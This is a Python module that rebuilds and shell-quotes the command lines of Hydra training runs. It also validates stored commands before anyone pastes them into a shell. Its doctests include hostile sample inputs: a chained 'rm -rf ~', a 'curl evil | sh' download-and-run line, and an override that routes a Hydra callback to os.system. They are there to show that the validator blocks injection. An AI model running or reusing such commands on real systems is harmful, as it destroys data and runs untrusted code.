"""A run as the command line that trains it again."""

import os
import re
import shlex
from collections.abc import Mapping, Sequence
from typing import Any

from omegaconf import OmegaConf

# Words for Hydra in a command that is stored: how to search, and which installed launcher to use.
# Others can start a program, and whoever wrote the folder or database is not trusted with that.
HARMLESS = re.compile(
    r"hydra/(launcher|sweeper(/\w+)?)=\w+"
    r"|hydra\.launcher\.[a-z]\w*=[\w.:-]+"
    r"|hydra\.sweep\.dir=.*"
    r"|hydra\.sweeper\.(n_trials|n_jobs|batch_size|timeout|direction|max_failure_rate|families"
    r"|defaults_first|dry_run|may_differ|search_key|study_name|storage|(sampler|pruner)\.[a-z]\w*)=[^{]*"
)
SPECIAL = re.compile(r'[$`"\\!]')  # to a shell, even between double quotes


def command(overrides: Sequence[str], config_dir: str | None = None) -> str:
    """The command line of a run, quoted for a POSIX shell.

    Args:
        overrides: as Hydra got them, such as `scheduler.gamma=0.5`, `~task.noise`, `+task.k=1`.
        config_dir: what was given as `--config-dir`.

    >>> print(command(["scheduler=lambda", "scheduler.expression='0.9 ** epoch'"]))
    python -m sweeps scheduler=lambda "scheduler.expression='0.9 ** epoch'"
    >>> print(command(["scheduler.milestones=[30,80]"], config_dir="my conf"))
    python -m sweeps --config-dir 'my conf' 'scheduler.milestones=[30,80]'
    """
    own_files = [] if config_dir is None else ["--config-dir", config_dir]
    return " ".join(["python", "-m", "sweeps", *map(_quoted, [*own_files, *overrides])])


def run_command(overrides: Sequence[str], config_dir: str | None = None) -> str:
    """The same of a single run, also of one that was a sweep's trial: it has no verdict.

    >>> print(run_command(["scheduler=step", "verdict.fresh=5"]))
    python -m sweeps scheduler=step
    """
    return command(
        [word for word in overrides if not word.startswith(("verdict.", "verdict="))], config_dir
    )


def stored_command(text: str) -> str:
    """A command that stands in a run's folder or in a database; empty if it could do harm.

    A person copies it into a shell: it must be `python -m sweeps` and nothing else.

    >>> print(stored_command("python -m sweeps -m scheduler=step,cosine hydra/launcher=joblib"))
    python -m sweeps -m scheduler=step,cosine hydra/launcher=joblib
    >>> stored_command("python -m sweeps; rm -rf ~"), stored_command("curl evil | sh")
    ('', '')
    >>> stored_command("python -m sweeps '+hydra.callbacks.x._target_=os.system'")
    ''
    """
    try:
        words = shlex.split(text)
    except ValueError:
        return ""
    own = words[:3] == ["python", "-m", "sweeps"]
    plain = " ".join(map(_quoted, words))
    return plain if own and plain == text and all(map(_is_harmless, words)) else ""


def _is_harmless(word: str) -> bool:
    hydras = re.match(r"[+~]*hydra\b", word) is not None
    return not hydras or HARMLESS.fullmatch(word) is not None


def command_of(hydra: Mapping[str, Any]) -> str:
    """The command line of a job.

    Args:
        hydra: the job's node `hydra`, as `HydraConfig.get()` or its `.hydra/hydra.yaml` has it.
    """
    words = [word for word in typed_words(hydra) if _is_harmless(word)]
    return run_command(words, config_dir(hydra))


def typed_words(hydra: Mapping[str, Any]) -> list[str]:
    """The overrides of a job as they were typed: to read them one by one would resolve them.

    Args:
        hydra: the job's node `hydra`.
    """
    found: Any = hydra["overrides"]["task"]
    plain: Any = OmegaConf.to_container(found, resolve=False) if OmegaConf.is_list(found) else found
    return list(map(str, plain))


def config_dir(hydra: Mapping[str, Any]) -> str | None:
    """What was given as `--config-dir`, from here."""
    sources = hydra["runtime"]["config_sources"]
    own = [source["path"] for source in sources if source["provider"] == "command-line"]
    return os.path.relpath(own[0]) if own else None


def _quoted(word: str) -> str:
    """A word of a command; one with Hydra's own quotes stays readable.

    >>> print(_quoted("epochs=5"), _quoted("k='a b'"), _quoted("k='${epochs}'"))
    epochs=5 "k='a b'" 'k='"'"'${epochs}'"'"''
    """
    return f'"{word}"' if "'" in word and not SPECIAL.search(word) else shlex.quote(word)
